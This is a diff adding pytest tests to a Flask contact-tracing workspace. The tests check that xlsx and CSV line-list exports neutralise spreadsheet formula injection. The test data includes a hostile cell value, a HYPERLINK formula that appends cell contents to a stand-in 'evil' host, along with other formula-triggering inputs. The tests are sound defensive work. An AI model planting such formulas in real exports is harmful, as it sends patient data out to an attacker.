@@ -4,12 +4,14 @@ database, never in the session cookie; phone numbers and comments are stored who
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
 
 import pytest
 from flask import Flask
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 from conftest import FROZEN_NOW
@@ -20,6 +22,7 @@ from prevention_cds.workspace.contacts import as_row
 from prevention_cds.workspace.errors import Invalid
 from prevention_cds.workspace.i18n import say
 from prevention_cds.workspace.service import Actor, Workspace
+from prevention_cds.workspace.spreadsheet import inert
 from support.workspace import Clock, login, workspace_app
 
 NURSE = Actor("nurse", "editor")
@@ -136,3 +139,34 @@ def test_the_report_of_300_refused_rows_is_shown_and_kept_out_of_the_cookie(app:
         record_id = session.scalars(select(ImportRecord.id)).one()
     assert ws.import_report(Actor("editor", "editor"), created.json["id"], record_id) is not None
     assert ws.import_report(Actor("admin", "admin"), created.json["id"], record_id) is None  # only who imported
+
+
+def test_line_lists_never_hold_a_formula(app: Flask) -> None:
+    """OWASP "CSV Injection": a cell starting with = + - @ (or a tab, a carriage return) is inert in both files."""
+    editor = login(app, "editor")
+    created = editor.api("POST", "/api/investigations", json={"title": "t", "disease": "iim", "serogroup": "C"})
+    base = f"/api/investigations/{created.json['id']}"
+    hostile = [('=HYPERLINK("http://evil/?"&A1;"x")', "+Jean", "-2"), ("@SUM(1)", "-Marie", "+33 6 00 00 00 00")]
+    for last_name, first_name, phone in hostile:
+        response = editor.api("POST", f"{base}/contacts", json={
+            "nom": last_name, "prenom": first_name, "date_naissance": "2010-01-01", "situation": "household",
+            "dernier_contact": "2026-11-19", "poids_kg": "40", "telephone": phone})
+        assert response.status_code == 201, response.json
+    sheet = load_workbook(io.BytesIO(editor.client.get(f"{base}/line-list.xlsx").data)).active
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
+    for last_name, _, phone in hostile:
+        assert cells[last_name] == "s" and cells[phone] == "s"  # a string, shown as written, never a formula
+    assert "+Jean" in cells and "40" not in cells
+    text = editor.client.get(f"{base}/line-list.csv").data.decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
+    values = {value for line in lines[1:] for value in line}
+    assert {"'=HYPERLINK(\"http://evil/?\"&A1;\"x\")", "'+Jean", "'-2", "'@SUM(1)", "'-Marie",
+            "'+33 6 00 00 00 00"} <= values
+    assert not any(value[:1] in "=+-@\t\r" for value in values if value)
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=1+1", "'=1+1"), ("+Jean", "'+Jean"), ("-2", "'-2"), ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("Jean-Marie", "Jean-Marie"), ("", ""), (None, ""), (3, 3)])
+def test_a_cell_that_could_start_a_formula_is_made_inert(value: object, written: object) -> None:
+    assert inert(value) == written
